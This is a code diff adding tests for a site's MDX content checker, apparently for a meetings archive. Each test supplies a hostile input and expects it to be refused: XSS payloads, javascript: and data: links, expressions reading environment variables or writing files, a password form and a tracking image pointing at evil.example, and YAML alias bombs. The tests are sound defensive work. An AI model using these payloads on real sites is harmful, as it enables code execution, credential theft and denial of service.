@@ -176,3 +176,96 @@ describe('bad content is reported with its file, field and the fix', () => {
     expect(problems).toHaveLength(2);
   });
 });
+
+/**
+ * Content safety: each hole found by trying the check as an attacker would. The check compiles the
+ * text with the build's own plugin, so each of these also stops the build (tests/hostile.test.ts).
+ */
+describe('content that could run code or plant markup is refused, with its file and line', () => {
+  const PAPER = 'meetings/bcb/2019-06-11/08-0-support.mdx';
+  const NAME = 'content/meetings/bcb/2019-06-11/08-0-support\\.mdx';
+  /** the paper with `text` from line 8 on */
+  const paperWith = (text: string): Archive => ({ [PAPER]: `${PAPER_8}\n${text}\n` });
+  const at = (line: number, message: string) => new RegExp(`^${NAME}:${line} ${message}`);
+  const CODE = 'has \\{…\\}, which MDX runs as code when the site is built; to show a brace as text, write \\\\\\{ and \\\\\\}';
+  const cases: [string, Archive, RegExp][] = [
+    ['an expression that reads the environment', paperWith('{Object.keys(process.env).join(" ")}'), at(8, CODE)],
+    ['an expression that writes files', paperWith('Text {process.getBuiltinModule("fs").writeFileSync("/tmp/x", "x") ?? ""} more'), at(8, CODE)],
+    ['an expression in an attribute', paperWith('<sup title={process.env.HOME}>1</sup>'), at(8, 'gives <sup> the attribute title')],
+    ['an event handler on the next line', paperWith('<img src="x"\n  onerror="alert(1)" />'), at(8, 'uses <img>, which content may not use')],
+    ['an svg with onload', paperWith('<svg\nonload="alert(1)"></svg>'), at(8, 'uses <svg>, which content may not use')],
+    ['a scheme built from strings', paperWith('<a href={"java" + "script:alert(1)"}>x</a>'), at(8, 'uses <a>, which content may not use')],
+    ['an entity-encoded scheme in a Markdown link', paperWith('[x](java&#115;cript:alert(1))'), at(8, 'links to "javascript:alert\\(1\\)"; expected an address starting http:, https:, mailto:, tel: or /')],
+    ['an entity-encoded scheme in a definition', paperWith('[x][ref]\n\n[ref]: jav&#x61;script:alert(1)'), at(10, 'links to "javascript:alert\\(1\\)"')],
+    ['a scheme with a tab and upper case', paperWith('[x](JaVa&#9;ScRiPt:alert(1))'), at(8, 'links to')],
+    ['a data: address', paperWith('[x](data:text/html;base64,PHNjcmlwdD4=)'), at(8, 'links to "data:text/html')],
+    ['a vbscript: address', paperWith('[x](vbscript:msgbox)'), at(8, 'links to "vbscript:msgbox"')],
+    ['an address to another host without a scheme', paperWith('[x](//evil.example/)'), at(8, 'links to "//evil.example/"')],
+    ['a script between two lines that start with three backticks', paperWith('``` a ```\n<script>alert(1)</script>\n``` b ```'), at(9, 'uses <script>')],
+    ['an import between two lines that start with three backticks', paperWith('``` a ```\n\nimport x from "node:fs"\n\n``` b ```'), at(10, 'has an import or export')],
+    ['a script in a text with CR line endings', { [PAPER]: `${PAPER_8}\rA line.\r\r<script>alert(1)</script>\r` }, new RegExp(`^${NAME}:\\d+ uses <script>`)],
+    ['set:html over several lines', paperWith('<Fragment\n  set:html="<script>alert(1)</script>" />'), at(8, 'uses <Fragment>, which the site does not supply')],
+    ['set:html on an allowed element', paperWith('<sup\n  set:html="<script>alert(1)</script>" />'), at(8, 'gives <sup> the attribute set:html')],
+    ['a spread onto the site’s component', paperWith('<EditorialNote {...{ "set:html": "<script>alert(1)</script>" }}>x</EditorialNote>'), at(8, 'gives <EditorialNote> a spread \\{…\\}, which runs code')],
+    ['an attribute on the site’s component', paperWith('<EditorialNote is:raw>x</EditorialNote>'), at(8, 'gives <EditorialNote> the attribute is:raw')],
+    ['a <base>', paperWith('<base href="https://evil.example/" />'), at(8, 'uses <base>')],
+    ['a refresh', paperWith('<meta http-equiv="refresh" content="0;url=https://evil.example/" />'), at(8, 'uses <meta>')],
+    ['a form', paperWith('<form action="https://evil.example/"><input name="password" /></form>'), at(8, 'uses <form>')],
+    ['a foreign stylesheet', paperWith('<link rel="stylesheet" href="https://evil.example/x.css" />'), at(8, 'uses <link>')],
+    ['a style element', paperWith('<style>@import "https://evil.example/x.css";</style>'), at(8, 'uses <style>')],
+    ['an iframe', paperWith('<iframe src="https://evil.example/" />'), at(8, 'uses <iframe>')],
+    ['a fragment', paperWith('<>text</>'), at(8, 'has a fragment')],
+    ['an image that would be fetched from another host', paperWith('![chart](https://evil.example/track.png)'), at(8, 'has an image, which the site does not publish from content')],
+    ['a comment, which citations would quote', paperWith('As the minutes of the meeting held on 16th May 2019 {/* not for publication */} show.'), at(8, 'has a comment \\{/\\* … \\*/\\}, which would be published')],
+    ['a list nested 500 deep', paperWith('- '.repeat(500)), at(8, 'nests lists or quotes more than 16 levels deep')],
+    ['quotes nested 50 deep', paperWith('> '.repeat(50) + 'x'), at(8, 'nests lists or quotes more than 16 levels deep')],
+    ['tags nested until the parser would run for minutes', paperWith('<sup a={'.repeat(30)), at(8, 'nests tags or braces more than 8 levels deep')],
+    ['a javascript: source document', replaceIn(PAPER, 'item: "8.0"', 'item: "8.0"\nsources:\n  - title: Background\n    url: "javascript:alert(1)"'), new RegExp(`^${NAME}:6 sources\\[0\\]\\.url: found "javascript:alert\\(1\\)"; expected a full web address starting http:// or https://`)],
+    ['a frontmatter line starting --- that ends the block early', replaceIn(PAPER, 'item: "8.0"', '---x: 1\n<script>alert(1)</script>\nitem: "8.0"'), at(3, 'this line starts with ---, which ends the frontmatter, but goes on')],
+    ['a YAML alias bomb', replaceIn(PAPER, 'item: "8.0"', 'item: "8.0"\na: &a ["x","x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]'), new RegExp(`^${NAME} the YAML repeats its aliases`)],
+    ['YAML that the site would read differently', replaceIn(PAPER, 'item: "8.0"', 'base: &base\n  item: "8.0"\n<<: *base'), new RegExp(`^${NAME}:\\d+ this YAML can be read in two ways`)],
+    ['a file name with a question mark', { 'meetings/bcb/2019-06-11/09-a?b.mdx': PAPER_8 }, /^content\/meetings\/bcb\/2019-06-11\/09-a\?b\.mdx has the name "09-a\?b\.mdx", which cannot be part of a web address/],
+    ['a file name with a hash', { 'meetings/bcb/2019-06-11/09-a#b.mdx': PAPER_8 }, /09-a#b\.mdx has the name "09-a#b\.mdx", which cannot be part of a web address/],
+    ['a file name with a space', { 'meetings/bcb/2019-06-11/09 plan.mdx': PAPER_8 }, /09 plan\.mdx has the name "09 plan\.mdx", which cannot be part of a web address/],
+    ['a folder name in upper case', { 'meetings/BCB/2019-06-11/index.mdx': MEETING }, /meetings\/BCB\/2019-06-11\/index\.mdx has the name "BCB", which cannot be part of a web address/],
+    ['a body whose id is a page of the site', { 'bodies.yaml': `${BODIES}- id: data\n  name: Data Board\n` }, /^content\/bodies\.yaml:5 \[2\]\.id: found "data", which is the address of a page of the site itself \(\/data\/\)/],
+  ];
+
+  it.each(cases)('%s', (_name, changes, expected) => {
+    const problems = problemsWith(changes);
+    expect(problems, problems.join('\n')).toEqual(expect.arrayContaining([expect.stringMatching(expected)]));
+  });
+
+  it('refuses a symbolic link and a special file by name', () => {
+    const files: ContentFile[] = Object.entries(validArchive()).map(([path, text]) => ({ path, bytes: typeof text === 'string' ? encoder.encode(text) : text }));
+    files.push({ path: 'meetings/bcb/2019-06-11/09-secrets.mdx', bytes: new Uint8Array(), special: 'symbolic link' });
+    files.push({ path: 'meetings/bcb/2019-06-11/10-pipe.mdx', bytes: new Uint8Array(), special: 'special file' });
+    expect(checkContent(files).problems.map(formatProblem)).toEqual([
+      'content/meetings/bcb/2019-06-11/09-secrets.mdx is a symbolic link; expected an ordinary file: put the file itself here, not a link to it',
+      'content/meetings/bcb/2019-06-11/10-pipe.mdx is a special file; expected an ordinary file: put the file itself here, not a link to it',
+    ]);
+  });
+
+  it('accepts what the papers need: line breaks, raised text, notes, tables, footnotes and ordinary links', () => {
+    const text = [
+      'Held on the 1<sup>st</sup> of June; H<sub>2</sub>O.',
+      '',
+      '| Grant | £ |',
+      '| :-- | --: |',
+      '| Crime<br />stoppers | 20,000 |',
+      '',
+      '<EditorialNote>The appendix is not in the pack.</EditorialNote>',
+      '',
+      'See [the plan](/bcb/2019-06-11/5/), [HMICFRS](https://www.justiceinspectorates.gov.uk/hmicfrs/), https://www.gov.uk/, www.gov.uk, [mail](mailto:opcc@example.org), [phone](tel:+441234567890) and a note.[^1]',
+      '',
+      '[^1]: A footnote, ~~struck~~.',
+      '',
+      '```',
+      '<script>shown as code, never run</script>',
+      '```',
+      '',
+      'Braces written \\{ and \\} are text.',
+    ].join('\n');
+    expect(problemsWith(paperWith(text))).toEqual([]);
+  });
+});
